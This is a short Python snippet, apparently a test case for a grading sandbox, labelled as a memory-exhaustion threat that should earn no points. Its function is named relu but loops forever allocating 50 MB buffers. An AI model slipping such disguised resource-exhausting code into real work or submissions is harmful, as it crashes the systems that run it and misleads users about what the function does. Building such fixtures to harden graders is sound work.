# threat: memory is taken without end
# stock: -
# outcome: no points
# %% relu
def relu(x):
    hoard = []
    while True:
        hoard.append(bytearray(50_000_000))
